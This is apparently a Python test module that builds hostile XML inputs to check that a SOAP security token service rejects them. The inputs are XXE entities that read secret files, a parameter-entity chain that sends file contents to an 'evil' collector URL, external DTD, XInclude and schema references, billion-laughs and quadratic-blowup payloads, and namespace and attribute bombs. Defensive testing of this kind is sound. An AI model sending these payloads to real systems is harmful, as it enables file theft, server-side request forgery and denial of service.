"""Entities, DTDs, XInclude and other ways to make a parser fetch, expand or explode."""

from __future__ import annotations

from tests.hostile.case import (
    BODY_INVALID,
    WRONG_REQUEST_TYPE,
    WRONG_TOKEN_TYPE,
    Case,
    envelope,
    fault,
    rst,
    sts,
    username_header,
)
from tests.hostile.traps import Traps

XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
WSA = "http://www.w3.org/2005/08/addressing"
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'


def _doctype(internal: str, root: str = "soapenv:Envelope") -> str:
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{internal}]>\n'


def _entity_in_username(entity: str) -> str:
    return sts(header=username_header(login=f"&{entity};"))


def entity_cases(t: Traps) -> list[Case]:
    evil = t.evil_base
    lol = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    exfil = (f'<!ENTITY % file SYSTEM "{t.secret_url}">'
             f"<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '{evil}/collect?d=%file;'>\">%eval;%send;")
    return [
        fault("xxe_file_fifo", _doctype(f'<!ENTITY x SYSTEM "{t.fifo_url}">') + _entity_in_username("x")),
        fault("xxe_file_fifo_plain_path", _doctype(f'<!ENTITY x SYSTEM "{t.fifo}">') + _entity_in_username("x")),
        fault("xxe_file_secret", _doctype(f'<!ENTITY x SYSTEM "{t.secret_url}">') + _entity_in_username("x")),
        fault("xxe_http", _doctype(f'<!ENTITY x SYSTEM "{evil}/evil.xml">') + _entity_in_username("x")),
        fault("xxe_in_token_type", _doctype(f'<!ENTITY x SYSTEM "{t.secret_url}">')
              + sts(rst(token_type="&x;"))),
        fault("xxe_parameter_entity_http",
              _doctype(f'<!ENTITY % p SYSTEM "{evil}/evil.dtd"> %p;') + _entity_in_username("x")),
        fault("xxe_parameter_entity_fifo",
              _doctype(f'<!ENTITY % p SYSTEM "{t.fifo_url}"> %p;') + _entity_in_username("x")),
        fault("xxe_parameter_entity_exfiltration", _doctype(exfil) + sts()),
        fault("external_dtd_http", f'<?xml version="1.0"?><!DOCTYPE soapenv:Envelope SYSTEM "{evil}/evil.dtd">'
              + sts()),
        fault("external_dtd_fifo", f'<!DOCTYPE soapenv:Envelope SYSTEM "{t.fifo_url}">' + sts()),
        fault("external_dtd_public", f'<!DOCTYPE soapenv:Envelope PUBLIC "-//Evil//DTD Evil//EN" "{evil}/p.dtd">'
              + sts()),
        fault("internal_dtd_without_entities", _doctype("<!ELEMENT soapenv:Envelope ANY>") + sts()),
        fault("billion_laughs", _doctype(lol) + _entity_in_username("lol9")),
        fault("quadratic_blowup", _doctype(f'<!ENTITY a "{"A" * 40_000}">')
              + sts(header=username_header(login="&a;" * 40_000))),
        fault("entity_declared_in_body_only", sts(rst(token_type="&undeclared;"))),
    ]


def inclusion_cases(t: Traps) -> list[Case]:
    """References a parser must not follow; the requests otherwise fail on their TokenType."""
    evil = t.evil_base
    inert = frozenset({WRONG_TOKEN_TYPE, BODY_INVALID})
    xinclude = lambda name, href, parse="text", attrs="": Case(  # noqa: E731
        name, sts(rst(token_type=f'<xi:include {XI} href="{href}" parse="{parse}" {attrs}/>')).encode(), inert)
    reply_to = (f'<wsa:ReplyTo xmlns:wsa="{WSA}"><wsa:Address>{evil}/reply</wsa:Address></wsa:ReplyTo>'
                f'<wsa:FaultTo xmlns:wsa="{WSA}"><wsa:Address>{evil}/fault</wsa:Address></wsa:FaultTo>'
                f'<wsa:To xmlns:wsa="{WSA}">{evil}/to</wsa:To>')
    return [
        xinclude("xinclude_fifo", t.fifo_url),
        xinclude("xinclude_secret_text", t.secret_url),
        xinclude("xinclude_http_xml", f"{evil}/evil.xml", parse="xml"),
        xinclude("xinclude_relative_with_xml_base", "evil.xml", parse="xml", attrs=f'xml:base="{evil}/"'),
        fault("xinclude_in_header", sts(header=username_header(
            extra=f'<xi:include {XI} href="{t.secret_url}" parse="text"/>')), WRONG_TOKEN_TYPE, BODY_INVALID),
        fault("xml_base_everywhere", sts(rst(request_type="urn:falsch", attrs=f'xml:base="{t.fifo_url}"'),
                                         env_attrs=f'xml:base="{evil}/"'), WRONG_REQUEST_TYPE, BODY_INVALID),
        fault("schema_location", sts(rst(token_type="urn:falsch", attrs=f'{XSI} xsi:schemaLocation='
                                         f'"http://schemas.xmlsoap.org/ws/2005/02/trust {evil}/evil.xsd"'),
                                     env_attrs=f'{XSI} xsi:noNamespaceSchemaLocation="{t.fifo_url}"'),
              WRONG_TOKEN_TYPE, BODY_INVALID),
        fault("wsa_reply_to", envelope(rst(token_type="urn:falsch"), reply_to + username_header()),
              WRONG_TOKEN_TYPE, BODY_INVALID),
        fault("pi_stylesheet", sts(prolog=f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" '
                                          f'href="{evil}/evil.xsl"?>'), WRONG_TOKEN_TYPE, BODY_INVALID),
        fault("pi_inside_body", sts(f'<?evil href="{t.fifo_url}"?>' + rst(token_type="urn:falsch")),
              WRONG_TOKEN_TYPE, BODY_INVALID),
        fault("cdata_doctype_in_token_type", sts(rst(
            token_type=f'<![CDATA[<!DOCTYPE x SYSTEM "{evil}/evil.dtd"><x>&x;</x>]]>')),
              WRONG_TOKEN_TYPE),
    ]


def bomb_cases() -> list[Case]:
    """Documents that are well-formed (or nearly) but built to cost the parser."""
    many_ns = " ".join(f'xmlns:n{i}="urn:bombe:{i}"' for i in range(50_000))
    many_attrs = " ".join(f'a{i}="x"' for i in range(50_000))
    return [
        fault("nested_10000_elements", sts(rst(extra="<x>" * 10_000 + "</x>" * 10_000))),
        fault("nested_100_elements", sts(rst(extra="<x>" * 100 + "</x>" * 100))),
        fault("nested_in_header", sts(header=username_header(extra="<x>" * 80 + "</x>" * 80))),
        fault("namespace_bomb", sts(rst(token_type="urn:falsch", attrs=many_ns))),
        fault("namespace_bomb_spread", sts(rst(token_type="urn:falsch", extra="".join(
            f'<y xmlns:a{i}="urn:{i}" xmlns:b{i}="urn:b{i}"/>' for i in range(30_000))))),
        fault("attribute_bomb", sts(rst(token_type="urn:falsch", extra=f"<x {many_attrs}/>"))),
        fault("attribute_bomb_on_envelope", sts(env_attrs=many_attrs)),
        fault("element_flood", sts(rst(token_type="urn:falsch", extra="<y/>" * 300_000))),
        fault("long_element_name_60k", sts(rst(extra=f"<{'n' * 60_000}/>"))),
        fault("long_element_name_40k_message", envelope(f"<{'n' * 40_000}/>", username_header())),
        fault("long_attribute_name", sts(rst(token_type="urn:falsch", attrs=f'{"a" * 5000}="x"'))),
        fault("long_attribute_value", sts(rst(token_type="urn:falsch", attrs=f'a="{"v" * 2_000_000}"')),
              WRONG_TOKEN_TYPE, BODY_INVALID),
    ]


def all_cases(t: Traps) -> list[Case]:
    return entity_cases(t) + inclusion_cases(t) + bomb_cases()
